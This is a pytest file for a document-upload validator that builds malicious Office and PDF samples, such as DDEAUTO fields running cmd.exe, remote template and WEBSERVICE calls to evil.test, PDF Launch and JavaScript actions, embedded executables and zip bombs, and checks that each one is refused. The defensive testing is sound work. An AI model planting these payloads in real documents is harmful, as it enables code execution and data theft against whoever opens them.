"""Documents from outside: what they hold counts, not how their parts are called."""

from __future__ import annotations

import io
import struct
import time
import zipfile
import zlib
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files import File
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from core.tools import layout, rough
from core.tools.files import beside, documents, pdfs, uploads
from tests.files import office, pdf

SOURCES = Path(__file__).parent / "sources"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500


def relations(kind: str, target: str) -> bytes:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()


def refusal(data: bytes) -> str:
    with pytest.raises(ValidationError) as caught:
        documents.check_office(io.BytesIO(data))
    return caught.value.messages[0]


def test_what_office_programs_write_is_taken() -> None:
    out = io.BytesIO()
    book = openpyxl.Workbook()
    book.active["A1"] = "KSM"
    book.active["A1"].hyperlink = "https://example.org/"
    book.save(out)
    assert documents.check_office(out)[0] == ".xlsx"
    chart = office("docx", word__embeddings__Microsoft_Excel_Sheet1_dot_xlsx=out.getvalue())
    assert documents.check_office(io.BytesIO(chart))[0] == ".docx"


def written(name: str, **parts: bytes) -> File:
    """Return a file that LibreOffice 7.4 wrote (`sources/`), with parts added by name."""
    out = io.BytesIO((SOURCES / name).read_bytes())
    if parts:
        with zipfile.ZipFile(out, "a") as parcel:
            for part, content in parts.items():
                parcel.writestr(part, content)
    return File(out, name=name)


@pytest.mark.parametrize(
    ("name", "extension"), [("surat.docx", ".docx"), ("tabel.xlsx", ".xlsx"), ("surat.pdf", ".pdf")]
)
def test_what_libreoffice_writes_is_taken_as_it_is(name: str, extension: str) -> None:
    """Pictures, tables, links, contents, footnotes, comments, tracked changes, fields; a formula in the table."""
    found = uploads.check(written(name))
    assert (found.kind, found.extension) == ("document", extension)
    assert found.content == (SOURCES / name).read_bytes()


@pytest.mark.parametrize("name", ["surat.docx", "tabel.xlsx"])
def test_macros_in_what_libreoffice_writes_are_refused(name: str) -> None:
    for part in ("word/vbaProject.bin", "xl/vbaProject.bin", "word/media/image9.png"):
        with pytest.raises(ValidationError, match="makro"):
            uploads.check(written(name, **{part: OLE}))


def test_another_kind_of_document_is_refused_with_the_kinds_that_are_taken() -> None:
    with pytest.raises(ValidationError, match="PDF, Word"):
        uploads.check(written("surat.odt"))


@pytest.mark.parametrize(
    "data",
    [
        office("docx", word__VBAPROJECT_dot_BIN=b"x"),
        office("docx", word__harmless_dot_bin=OLE),
        office("docx", word__embeddings__oleObject1_dot_bin=OLE),
        office("docm"),
        office("xlsx", xl__embeddings__table_dot_xlsx=office("xlsx", xl__a_dot_png=OLE)),
    ],
    ids=["capitals", "other name", "object", "content type", "inside a chart"],
)
def test_macros_and_objects_are_refused_whatever_they_are_called(data: bytes) -> None:
    assert "makro" in refusal(data)


@pytest.mark.parametrize("kind", ["attachedTemplate", "image", "oleObject", "externalLinkPath"])
def test_what_fetches_from_elsewhere_is_refused(kind: str) -> None:
    data = office(
        "docx", word___rels__settings_dot_xml_dot_rels=relations(kind, "https://evil.test/t.dotm")
    )
    assert "tempat lain" in refusal(data)


@pytest.mark.parametrize("kind", ["attachedTemplate", "image"])
@pytest.mark.parametrize(
    "target", ["file:///\\\\evil\\t.dotm", "\\\\evil\\t", "//evil/t", "HTTP://e.test/t"]
)
def test_what_lies_elsewhere_is_refused_even_if_it_does_not_say_so(kind: str, target: str) -> None:
    told = relations(kind, target).replace(b' TargetMode="External"', b"")
    assert "tempat lain" in refusal(office("docx", word___rels__a_dot_rels=told))


W = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">%s</w:document>'


def inner(document: str) -> str:
    return document.removesuffix("</w:document>").partition(">")[2]


def field(*pieces: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return (
        W
        % f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


@pytest.mark.parametrize(
    ("part", "words"),
    [
        (field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '), "makro"),
        (field("DD", "EAU", "TO cmd"), "makro"),
        (field("&#68;DE cmd"), "makro"),
        (field("QUOTE 68 68 69 65 85 84 79"), "makro"),
        (W % '<w:fldSimple w:instr="dde cmd a"/>', "makro"),
        ('<externalLink><a xmlns="urn:x"><ddeLink ddeService="cmd"/></a></externalLink>', "makro"),
        (field('INCLUDEPICTURE "http://evil.test/a.png" \\d'), "tempat lain"),
        (field("INCLUDE", 'PICTURE \\d "file:', '//evil/a"'), "tempat lain"),
        (field('INCLUDETEXT "\\\\\\\\evil\\\\a.docx"'), "tempat lain"),
        (field('HYPERLINK "file:////evil/a.exe"'), "tempat lain"),
        (field("HYPERLINK javascript:x"), "tempat lain"),
        (" \r\n" * 9 + field("DDEAUTO cmd"), "makro"),
    ],
)
@pytest.mark.parametrize("coding", ["utf-8", "utf-16"])
def test_fields_that_act_are_refused_however_they_are_written(
    part: str, words: str, coding: str
) -> None:
    assert words in refusal(office("docx", word__footnotes=part.encode(coding)))


def test_any_number_of_marks_is_read_in_one_go() -> None:
    """A pattern that begins at every empty line again takes a minute and a half, and lets nobody else work."""
    marks = "<w:fldChar/>" * 15_000
    started = time.process_time()
    documents.check_office(io.BytesIO(office("docx", word__footnotes=(W % marks).encode())))
    assert time.process_time() - started < 10
    assert rough.read("60" + " " * 20_000 + "x") and time.process_time() - started < 10


def test_fields_that_only_reckon_or_link_are_fine() -> None:
    for part in (
        field("PAGE"),
        field(' HYPERLINK "https://example.org/dde" '),
        W
        % (
            inner(field('INCLUDEPICTURE "C:\\\\Users\\\\a.png"'))
            + inner(field('HYPERLINK "https://a.test/"'))
        ),
        W % "<w:p><w:t>DDEAUTO dijelaskan di sini</w:t></w:p>",
    ):
        assert documents.check_office(io.BytesIO(office("docx", word__a_dot_xml=part.encode())))


@pytest.mark.parametrize("start", [b"MZ\x90\0", b"\x7fELF\x02"])
def test_programs_are_refused_whatever_they_are_called(start: bytes) -> None:
    assert "makro" in refusal(office("docx", word__media__a_dot_png=start + b"\0" * 99))


def test_a_link_to_click_is_fine() -> None:
    data = office(
        "docx", word___rels__document_dot_xml_dot_rels=relations("hyperlink", "https://a.test/")
    )
    assert documents.check_office(io.BytesIO(data))[0] == ".docx"


def test_archives_that_unfold_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(documents, "MOST_UNFOLDED", 4_000_000)
    assert "lebih besar" in refusal(office("docx", word__a_dot_xml=b"\0" * 1_000_000))  # the ratio
    wide = {f"word__a{n}_dot_xml": b"x" for n in range(documents.MOST_PARTS)}
    assert "lebih besar" in refusal(office("docx", **wide))
    monkeypatch.setattr(documents, "MOST_RATIO", 10**9)
    assert "lebih besar" in refusal(office("docx", word__a_dot_xml=b"\0" * 4_000_000))
    inner = office("xlsx", xl__a_dot_bin=b"\0" * 3_000_000)
    both = office("docx", word__a_dot_xlsx=inner, word__b_dot_xlsx=inner)
    assert refusal(both)  # what lies in both counts together
    assert documents.check_office(io.BytesIO(office("docx", word__a_dot_xlsx=inner)))


def test_parcels_in_parcels_in_parcels_are_refused() -> None:
    deep = office("xlsx", xl__a_dot_xlsx=office("xlsx"))
    assert documents.check_office(io.BytesIO(deep))
    assert "rusak" in refusal(office("docx", word__a_dot_xlsx=deep))


def lying(data: bytes) -> bytes:
    """Return a zip whose last part says it unfolds to one byte."""
    at = data.rindex(b"PK\x01\x02")
    return data[: at + 24] + struct.pack("<I", 1) + data[at + 28 :]


def locked(data: bytes) -> bytes:
    at = data.rindex(b"PK\x01\x02")
    return data[: at + 8] + b"\x01" + data[at + 9 :]


def named_twice() -> bytes:
    out = io.BytesIO(office("docx"))
    with zipfile.ZipFile(out, "a") as parcel:
        parcel.writestr("MAIN.xml", "x")
    return out.getvalue()


ENTITIES = b'<!DOCTYPE a [<!ENTITY b "c">]><Relationships/>'


@pytest.mark.parametrize(
    "data",
    [
        office("dotx"),
        office("docx", **{"[Content_Types].xml": b"<Types/>"}),
        office("docx", **{"[Content_Types].xml": b"no xml"}),
        office(
            "docx",
            **{"[Content_Types].xml": b'<?xml version="1.0" encoding="windows-9999"?><Types/>'},
        ),
        office("docx", _rels__a_dot_rels=ENTITIES),
        lying(office("docx", word__a_dot_xml=b"long enough")),
        locked(office("docx")),
        named_twice(),
        office("docx")[:-40],
    ],
    ids=[
        "template",
        "no type",
        "no xml",
        "unknown letters",
        "entities",
        "lying",
        "locked",
        "twice",
        "cut off",
    ],
)
def test_what_is_no_whole_document_is_refused(data: bytes) -> None:
    assert refusal(data)


in_another_process, office_in_another_process = pdfs._beside, documents._beside


@pytest.fixture(autouse=True)
def _in_this_process(monkeypatch: pytest.MonkeyPatch) -> None:
    """Most files here are harmless to whoever looks at them, and another process takes half a second to start."""
    monkeypatch.setattr(pdfs, "_beside", pdfs.outcome_of)
    monkeypatch.setattr(documents, "_beside", documents.outcome_of)


def test_a_pdf_is_looked_at_by_another_process(monkeypatch: pytest.MonkeyPatch) -> None:
    assert in_another_process(pdf()) == pdfs.FINE
    assert in_another_process(pdf(change=javascript)) == pdfs.ACTS
    monkeypatch.setattr(beside.ask, "__kwdefaults__", {"seconds": 4, "wait": 0.001})
    assert in_another_process(pdf()) == pdfs.MUCH


def test_a_document_is_looked_at_by_another_process(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(documents, "_beside", office_in_another_process)
    assert documents.check_office(io.BytesIO(office("docx")))[0] == ".docx"
    assert "makro" in refusal(office("docm"))
    monkeypatch.setattr(beside.ask, "__kwdefaults__", {"seconds": 4, "wait": 0.001})
    assert "lebih besar" in refusal(office("docx"))


def test_instructions_without_end_are_not_read() -> None:
    told = W % ('<w:a w:instr="' + " " * 60_000 + 'x"/>') * 1
    many = told.replace(
        "</w:document>", ('<w:a w:instr="' + " " * 60_000 + 'x"/>') * 20 + "</w:document>"
    )
    assert refusal(office("docx", word__a_dot_xml=many.encode()))
    assert "makro" in refusal(
        office("docx", word__a_dot_xml=(W % '<w:a w:instr=" DDE x"/>').encode())
    )


def test_a_pdf_made_to_be_long_to_read_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
    """Its catalogue stands behind half a million objects of one stream, which the reader lists at one go."""
    monkeypatch.setattr(beside.ask, "__kwdefaults__", {"seconds": 1, "wait": 30})
    monkeypatch.setattr(pdfs, "_beside", in_another_process)
    started = time.monotonic()
    assert pdfs.outcome_of(behind(10)) == pdfs.FINE
    assert "bagian demi bagian" in broken_pdf(behind(500_000))
    assert time.monotonic() - started < 15


def behind(many: int) -> bytes:
    objects = [(9, b"0")] * many + [
        (1, b"<</Type/Catalog/Pages 2 0 R>>"),
        (2, b"<</Type/Pages/Count 1/Kids[3 0 R]>>"),
        (3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"),
    ]
    places, at = [], 0
    for number, text in objects:
        places.append(b"%d %d " % (number, at))
        at += len(text) + 1
    head, body = b"".join(places), b" ".join(text for _n, text in objects)
    packed = zlib.compress(head + body)
    start = b"%PDF-1.5\n"
    stream = b"10 0 obj\n<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>stream\n"
    stream = stream % (len(objects), len(head), len(packed)) + packed + b"\nendstream\nendobj\n"
    found = len(start) + len(stream)
    rows = [bytes(9)] + [bytes([2]) + (10).to_bytes(4, "big") + bytes(4)] * 3 + [bytes(9)] * 6
    rows += [bytes([1]) + at.to_bytes(4, "big") + bytes(4) for at in (len(start), found)]
    table = b"".join(rows)
    index = b"11 0 obj\n<</Type/XRef/Size 12/W[1 4 4]/Root 1 0 R/Length %d>>stream\n" % len(table)
    return start + stream + index + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % found


def broken_pdf(data: bytes) -> str:
    with pytest.raises(ValidationError) as caught:
        pdfs.check_pdf(data)
    return caught.value.messages[0]


def javascript(writer: PdfWriter) -> None:
    script = {
        NameObject("/S"): NameObject("/JavaScript"),
        NameObject("/JS"): TextStringObject("app.alert(1)"),
    }
    tree = DictionaryObject(
        {
            NameObject("/Names"): ArrayObject(
                [TextStringObject("a"), writer._add_object(DictionaryObject(script))]
            )
        }
    )
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})


def launch(writer: PdfWriter) -> None:
    action = {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd")}
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(action)


def additional(writer: PdfWriter) -> None:
    writer.root_object[NameObject("/AA")] = DictionaryObject()


@pytest.mark.filterwarnings(
    "ignore::DeprecationWarning"
)  # the cipher of the test's PDF is an old one
def test_pdfs_are_taken() -> None:
    pdfs.check_pdf(pdf())
    pdfs.check_pdf(pdf(change=lambda writer: writer.encrypt("rahasia", algorithm="RC4-128")))
    pdfs.check_pdf(
        pdf(change=lambda writer: writer.add_outline_item("Bab 1", 0))
        + b"\r\n"  # some programs write more line ends
    )


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7 <html><script>alert(1)</script></html>",
        b"%PDF-1.7\n<html><script>alert(1)</script>\nstartxref\n0\n%%EOF\n",
        pdf()[: len(pdf()) // 2],
        pdf() + b"<html>" + b"x" * 3000,
        b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n",
        b"%PDF-1.7\n" + b"<<" * 50_000 + b"\nstartxref\n9\n%%EOF\n",
    ],
    ids=["html", "html with an end", "cut off", "more behind it", "no pages", "deep"],
)
def test_what_only_begins_like_a_pdf_is_refused(data: bytes) -> None:
    assert "rusak" in broken_pdf(data)


def obj(**given: Any) -> DictionaryObject:
    """Return a PDF dictionary; text beginning with "/" is a name."""

    def made(value: Any) -> Any:
        if isinstance(value, str):
            return NameObject(value) if value.startswith("/") else TextStringObject(value)
        return ArrayObject(value) if isinstance(value, list) else value

    return DictionaryObject({NameObject(f"/{name}"): made(value) for name, value in given.items()})


def opening(writer: PdfWriter, **more: Any) -> None:
    writer.root_object[NameObject("/OpenAction")] = obj(**more)


def on_page(writer: PdfWriter, **mark: Any) -> None:
    own = writer._add_object(obj(Type="/Annot", **mark))
    writer.pages[0][NameObject("/Annots")] = ArrayObject([own])


def in_form(writer: PdfWriter, **given: Any) -> None:
    inner = writer._add_object(obj(FT="/Btn", **given))
    outer = writer._add_object(obj(T="luar", Kids=[inner]))
    writer.root_object[NameObject("/AcroForm")] = obj(Fields=[outer])


def bookmark(writer: PdfWriter, *actions: Any) -> None:
    after = None
    for action in reversed(actions):
        more = {"Next": after} if after is not None else {}
        after = writer._add_object(obj(Title="x", A=action, **more))
    writer.root_object[NameObject("/Outlines")] = obj(First=after)


JS = obj(S="/JavaScript", JS="app.alert(1)")
ACTING = {
    "javascript": javascript,
    "launch": launch,
    "additional": additional,
    "goto, then more": lambda w: opening(w, S="/GoTo", D=[], Next=JS),
    "submit": lambda w: opening(w, S="/SubmitForm", F="http://evil.test/"),
    "other file": lambda w: opening(w, S="/GoToR", F="\\\\evil\\a.pdf"),
    "address": lambda w: opening(w, S="/URI", URI="http://evil.test/"),
    "page": lambda w: w.pages[0].update({NameObject("/AA"): obj(O=JS)}),
    "link": lambda w: on_page(w, Subtype="/Link", A=obj(S="/Launch", F="cmd")),
    "link, then more": lambda w: on_page(w, Subtype="/Link", A=obj(S="/URI", Next=JS)),
    "link acts": lambda w: on_page(w, Subtype="/Link", AA=obj(E=JS)),
    "link with a script": lambda w: on_page(
        w, Subtype="/Link", A=obj(S="/URI", URI="JavaScript:x")
    ),
    "popup of a note": lambda w: on_page(w, Subtype="/Text", Popup=obj(Subtype="/Popup", A=JS)),
    "bookmark": lambda w: bookmark(w, obj(S="/Launch", F="cmd")),
    "second bookmark": lambda w: bookmark(w, obj(S="/GoTo", D=[]), JS),
    "file of a page": lambda w: w.pages[0].update({NameObject("/AF"): ArrayObject([obj(F="a")])}),
    "collection": lambda w: w.root_object.update({NameObject("/Collection"): obj(View="/D")}),
    "attached": lambda w: on_page(w, Subtype="/FileAttachment"),
    "embedded": lambda w: w.add_attachment("a.exe", b"MZ"),
    "field": lambda w: in_form(w, A=obj(S="/SubmitForm", F="http://evil.test/")),
    "field acts": lambda w: in_form(w, AA=obj(C=JS)),
}


@pytest.mark.filterwarnings("ignore::DeprecationWarning")
@pytest.mark.parametrize("way", ["RC4-40", "RC4-128"])
def test_a_pdf_that_asks_for_no_password_is_looked_into(way: str) -> None:
    """Encrypted with an empty password any program opens it."""

    def change(writer: PdfWriter) -> None:
        javascript(writer)
        writer.encrypt("", owner_password="rahasia", algorithm=way)

    assert "perintah" in broken_pdf(pdf(change=change))


@pytest.mark.parametrize("change", ACTING.values(), ids=ACTING)
def test_a_pdf_that_acts_is_refused(change: Any) -> None:
    data = pdf(change=change)
    assert PdfReader(io.BytesIO(data)).pages
    assert "perintah" in broken_pdf(data)


@pytest.mark.parametrize(
    "change",
    [
        lambda w: opening(w, S="/GoTo", D=[]),
        lambda w: on_page(w, Subtype="/Link", A=obj(S="/URI", URI="https://example.org/")),
        lambda w: on_page(w, Subtype="/Link", Dest=ArrayObject()),
        lambda w: in_form(w, A=obj(S="/ResetForm")),
    ],
    ids=["first page", "link", "place", "form"],
)
def test_a_pdf_with_links_and_a_form_is_taken(change: Any) -> None:
    pdfs.check_pdf(pdf(change=change))


def test_a_paper_of_this_house_is_taken() -> None:
    page = '<html lang="id"><title>a</title><h1>a</h1><a href="https://example.org/">b</a>'
    pdfs.check_pdf(layout.together([page]))


def test_a_pdf_without_end_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    def grow(writer: PdfWriter) -> None:
        pages: Any = writer.root_object["/Pages"].get_object()
        pages["/Kids"].append(pages.indirect_reference)

    monkeypatch.setattr(pdfs, "MOST_OBJECTS", 500)
    assert "bagian demi bagian" in broken_pdf(pdf(change=grow))


@pytest.mark.parametrize(
    "data",
    [
        office("docx", word__afchunk_dot_rtf=b"{\\rtf1 x}", word___rels__document_dot_xml_dot_rels=relations("aFChunk", "afchunk.rtf").replace(b' TargetMode="External"', b"")),
        office("xlsx", xl__connections_dot_xml=b"<connections/>"),
        office("docx", word__media__start_dot_hta=b"<html/>"),
        office("docx", word__media__start_dot_LNK=b"L"),
        office("docx", word__media__start_dot_scr=b"L"),
    ],
)  # fmt: skip
def test_what_is_unfolded_or_fetched_when_opened_is_refused(data: bytes) -> None:
    assert "makro" in refusal(data)


SHEET = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">%s</worksheet>'
)


def here(kind: str, target: str = "x.xml") -> bytes:
    return relations(kind, target).replace(b' TargetMode="External"', b"")


@pytest.mark.parametrize(
    "kind",
    [
        "control",
        "webextensiontaskpanes",
        "aFChunk/",
        "AFCHUNK",
        "aFChunk ",
        "attachedToolbars",
        "xlMacrosheet",
    ],
)
def test_a_part_of_an_unknown_kind_is_refused(kind: str) -> None:
    assert "makro" in refusal(office("docx", word___rels__a_dot_rels=here(kind)))


@pytest.mark.parametrize("kind", ["activeX+xml", "webextensiontaskpanes+xml"])
def test_controls_and_add_ins_are_refused_by_what_they_say_they_are(kind: str) -> None:
    types = zipfile.ZipFile(io.BytesIO(office("docx"))).read("[Content_Types].xml")
    told = types.replace(
        b"</Types>", f'<Override ContentType="application/vnd.ms-office.{kind}"/></Types>'.encode()
    )
    assert "makro" in refusal(office("docx", **{"[Content_Types].xml": told}))


@pytest.mark.parametrize(
    "formula",
    [
        '<f>WEBSERVICE("http://e.test/"&amp;A2)</f>',
        '<f>_xlfn.IMAGE("http://e.test/a.png")</f>',
        '<f>1+_xlfn.&#87;ebservice ("http://e.test/")</f>',
        '<f>RTD("prog.id",,"a")</f>',
        '<definedName name="a">CALL("kernel32","x","y")</definedName>',
        '<dataValidation><formula1>WEBSERVICE("http://e.test/")</formula1></dataValidation>',
        '<f>WEB<!-- x -->SERVICE("http://e.test/")</f>',
        '<f>WEB<![CDATA[SERVICE("http://e.test/")]]></f>',
        '<f>WEB<?a b?>SERVICE("http://e.test/")</f>',
        '<calculatedColumnFormula>WEBSERVICE("http://e.test/")</calculatedColumnFormula>',
        "<f>cmd|'/c calc'!A0</f>",
        '<f>DDE("soffice","a","b")</f>',
        "<f>'http://e.test/[x.xlsx]S'!A1</f>",
        '<f>HYPERLINK("file:////e.test/x.exe")</f>',
    ],
)
@pytest.mark.parametrize("before", ["", " \n" * 9])
def test_formulas_that_fetch_are_refused(formula: str, before: str) -> None:
    data = office("xlsx", xl__worksheets__sheet1_dot_xml=(before + SHEET % formula).encode())
    assert "tempat lain" in refusal(data)


def test_a_part_is_known_however_its_name_is_written() -> None:
    data = office("docx", **{"word/_rels/a.r%65ls": relations("attachedTemplate", "//e.test/a")})
    assert "tempat lain" in refusal(data)


def test_other_formulas_and_words_are_taken() -> None:
    told = (
        "<f>SUM(A1:A9)+Image2&amp;'a|b'!A1&amp;\"x|y\"</f><f>[1]S!A1+T[Jiwa]</f>"
        '<f>HYPERLINK("https://a.test/")</f><!-- x -->'
    )
    told += '<c t="inlineStr"><is><t>WEBSERVICE("x") IMAGE(2)</t></is></c>'
    documents.check_office(
        io.BytesIO(office("xlsx", xl__worksheets__sheet1_dot_xml=(SHEET % told).encode()))
    )


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_query_is_refused(encoding: str) -> None:
    told = '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'
    assert "tempat lain" in refusal(office("xlsx", customXml__item1_dot_xml=told.encode(encoding)))


@pytest.mark.parametrize(
    "target",
    [
        "javascript:alert(1)",
        "file://///e.test/share/x.exe",
        "\\\\e.test\\x",
        "%6Aavascript:x",
        " vbscript:x",
        "ms-word:ofe|u|http://e.test/x",
    ],
)
def test_a_link_that_leads_to_no_page_is_refused(target: str) -> None:
    assert "tempat lain" in refusal(
        office("docx", word___rels__a_dot_rels=relations("hyperlink", target))
    )


@pytest.mark.parametrize(
    "target", ["https://example.org/?a=b:c", "mailto:a@b.id", "surat.docx", "#Bab1"]
)
def test_a_link_to_a_page_is_taken(target: str) -> None:
    data = office("docx", word___rels__a_dot_rels=relations("hyperlink", target))
    assert documents.check_office(io.BytesIO(data))[0] == ".docx"
